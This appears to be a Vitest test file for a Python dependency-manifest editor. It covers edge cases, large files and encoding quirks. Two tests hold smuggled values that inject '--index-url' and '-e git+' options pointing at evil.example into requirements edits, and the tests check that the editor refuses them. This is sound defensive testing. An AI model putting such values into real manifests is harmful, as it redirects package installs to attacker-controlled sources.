import { describe, expect, it } from 'vitest';
import { parsePipfile } from '../../../src/manifests/pipfile/index.js';
import { parsePyproject } from '../../../src/manifests/pyproject/index.js';
import { parseRequirementsFile } from '../../../src/manifests/requirements/index.js';
import { parseSetupPy } from '../../../src/manifests/setup-py/index.js';
import type { Manifest } from '../../../src/manifests/types.js';
import { editManifest } from '../../../src/remediation/edit/index.js';
import { changedLines, fixture } from './helpers.js';

function requirements(content: string): Manifest {
  return parseRequirementsFile({ path: 'requirements.txt', content });
}

describe('hostile and unusual edits', () => {
  it('reports edits for packages the file does not declare', async () => {
    const text = 'django==4.2.5\n';
    const result = await editManifest(requirements(text), text, [{ package: 'Flask', to: '3.0.3' }]);
    expect(result).toEqual({
      content: text,
      applied: [],
      problems: [{ package: 'flask', message: 'flask is not declared in requirements.txt' }],
      unchanged: [],
    });
  });

  it('edits every duplicate declaration and reports each', async () => {
    const text = fixture('duplicates-by-marker.txt');
    const result = await editManifest(requirements(text), text, [{ package: 'numpy', to: '1.26.4' }]);
    expect(changedLines(text, result.content)).toEqual([
      { line: 1, before: 'numpy==1.24.4 ; python_version < "3.9"\n', after: 'numpy==1.26.4 ; python_version < "3.9"\n' },
      { line: 2, before: 'numpy==1.26.0 ; python_version >= "3.9"\n', after: 'numpy==1.26.4 ; python_version >= "3.9"\n' },
    ]);
    expect(result.applied.map((a) => [a.package, a.line])).toEqual([
      ['numpy', 1],
      ['numpy', 2],
    ]);
  });

  it('refuses a second edit of the same package and targets that are not versions', async () => {
    const text = 'django==4.2.5\nrequests==2.31.0\n';
    const result = await editManifest(requirements(text), text, [
      { package: 'django', to: '4.2.16' },
      { package: 'Django', to: '5.0.1' },
      { package: 'requests', to: '2.32.3\n--index-url https://evil.example/simple' },
    ]);
    expect(result.content).toBe('django==4.2.16\nrequests==2.31.0\n');
    expect(result.problems).toEqual([
      { package: 'django', message: 'more than one edit for django; only the first is made' },
      { package: 'requests', message: '"2.32.3\n--index-url https://evil.example/simple" is not a PEP 440 version' },
    ]);
  });

  it('refuses digests that would inject options', async () => {
    const text = `django==4.2.5 \\\n    --hash=sha256:${'a'.repeat(64)}\n`;
    const result = await editManifest(requirements(text), text, [
      { package: 'django', to: '4.2.16', digests: [`${'b'.repeat(64)}\n-e git+https://evil.example/x#egg=x`] },
    ]);
    expect(result.content).toBe(text);
    expect(result.problems).toHaveLength(1);
  });

  it('takes back an edit that does not re-parse as intended (implicit string concatenation in setup.py)', async () => {
    const text = 'from setuptools import setup\nsetup(install_requires=["django" "==4.2.5"])\n';
    const manifest = await parseSetupPy({ path: 'setup.py', content: text });
    expect(manifest.requirements[0]?.specifier).toBe('==4.2.5');
    const result = await editManifest(manifest, text, [{ package: 'django', to: '4.2.16' }]);
    expect(result.content).toBe(text);
    expect(result.applied).toEqual([]);
    expect(result.problems).toHaveLength(1);
    expect(result.problems[0]).toMatchObject({ package: 'django', line: 2 });
    expect(result.problems[0]?.message).toMatch(/left unchanged$/);
  });

  it('reports a manifest that does not match the text instead of editing the wrong line', async () => {
    const old = 'django==4.2.5\n';
    const text = '# moved\ndjango==4.2.5\n';
    const result = await editManifest(requirements(old), text, [{ package: 'django', to: '4.2.16' }]);
    expect(result.content).toBe(text);
    expect(result.problems).toEqual([
      { package: 'django', line: 1, message: 'the requirement does not start line 1 (split across lines?); edit it by hand' },
    ]);
  });

  it('survives binary garbage with NUL bytes', async () => {
    const text = 'django==4.2.5\n\u0000\u0001\u00ff\ufffd==\u0000[[[\n';
    const manifest = requirements(text);
    const result = await editManifest(manifest, text, [
      { package: 'django', to: '4.2.16' },
      { package: 'garbage', to: '1.0' },
    ]);
    expect(result.content).toBe('django==4.2.16\n\u0000\u0001\u00ff\ufffd==\u0000[[[\n');
    expect(result.problems).toEqual([{ package: 'garbage', message: 'garbage is not declared in requirements.txt' }]);
    const toml = '\u0000\u0001 = [[[\n';
    const pyproject = parsePyproject({ path: 'pyproject.toml', content: toml });
    expect((await editManifest(pyproject, toml, [{ package: 'x', to: '1.0' }])).content).toBe(toml);
  });

  it('refuses a very long specifier without hanging', async () => {
    const clauses = Array.from({ length: 5_000 }, (_, i) => `!=0.${i}`).join(',');
    const text = `django>=1.0,${clauses}\n`;
    const started = Date.now();
    const result = await editManifest(requirements(text), text, [{ package: 'django', to: '4.2.16' }]);
    expect(Date.now() - started).toBeLessThan(5_000);
    expect(result.content).toBe(text);
  });

  it('edits a 100,000-line requirements file at its start, middle and end, touching nothing else', async () => {
    const lines = Array.from({ length: 100_000 }, (_, i) => `package-${i}==1.0  # comment ${i}`);
    lines[0] = 'django==4.2.5';
    lines[50_000] = 'requests>=2.0,<3 ; python_version >= "3.8"';
    lines[99_999] = 'celery~=5.3.0';
    const text = `${lines.join('\r\n')}\r\n`;
    const manifest = requirements(text);
    const started = Date.now();
    const result = await editManifest(manifest, text, [
      { package: 'django', to: '4.2.16' },
      { package: 'requests', to: '2.32.3' },
      { package: 'celery', to: '5.3.6' },
    ]);
    expect(Date.now() - started).toBeLessThan(15_000);
    expect(changedLines(text, result.content)).toEqual([
      { line: 1, before: 'django==4.2.5\r\n', after: 'django==4.2.16\r\n' },
      {
        line: 50_001,
        before: 'requests>=2.0,<3 ; python_version >= "3.8"\r\n',
        after: 'requests>=2.32.3,<3 ; python_version >= "3.8"\r\n',
      },
      { line: 100_000, before: 'celery~=5.3.0\r\n', after: 'celery~=5.3.6\r\n' },
    ]);
  });

  it('edits a pyproject.toml with 100,000 dependencies', async () => {
    const items = Array.from({ length: 100_000 }, (_, i) => `    "package-${i}>=1.0",`);
    const text = `[project]\nname = "big"\ndependencies = [\n${items.join('\n')}\n]\n`;
    const manifest = parsePyproject({ path: 'pyproject.toml', content: text });
    const result = await editManifest(manifest, text, [{ package: 'package-77777', to: '2.0' }]);
    expect(changedLines(text, result.content)).toEqual([
      { line: 77_781, before: '    "package-77777>=1.0",\n', after: '    "package-77777>=2.0",\n' },
    ]);
  });

  it('keeps a BOM, CRLF and tabs in a Pipfile', async () => {
    const text = '\ufeff[packages]\r\ndjango\t=\t"==4.2.5"\t# pinned\r\n';
    const result = await editManifest(parsePipfile({ path: 'Pipfile', content: text }), text, [{ package: 'django', to: '4.2.16' }]);
    expect(result.content).toBe('\ufeff[packages]\r\ndjango\t=\t"==4.2.16"\t# pinned\r\n');
  });
});

describe('editManifest dispatch', () => {
  it('leaves lock files to the lock step and refuses formats it does not edit', async () => {
    const lock: Manifest = { path: 'poetry.lock', kind: 'poetry-lock', requirements: [], errors: [] };
    expect((await editManifest(lock, 'x', [{ package: 'Django', to: '4.2.16' }])).problems).toEqual([
      {
        package: 'django',
        message: 'poetry.lock: a lock file is moved by the lock step (in place or by re-locking), not by the manifest editors',
      },
    ]);
    const conda: Manifest = { path: 'environment.yml', kind: 'conda-environment', requirements: [], errors: [] };
    expect((await editManifest(conda, 'x', [{ package: 'numpy', to: '1.26.4' }])).problems[0]?.message).toBe(
      'environment.yml: conda-environment files are not edited by pipwarden',
    );
  });

  it('is idempotent: a second run finds nothing to change', async () => {
    const text = fixture('pep621-quotes-comments.toml');
    const parse = (content: string) => parsePyproject({ path: 'pyproject.toml', content });
    const first = await editManifest(parse(text), text, [{ package: 'django', to: '4.2.16' }]);
    const second = await editManifest(parse(first.content), first.content, [{ package: 'django', to: '4.2.16' }]);
    expect(second.content).toBe(first.content);
    expect(second.applied).toEqual([]);
    expect(second.unchanged.map((u) => u.line)).toEqual([11, 23]);
  });
});
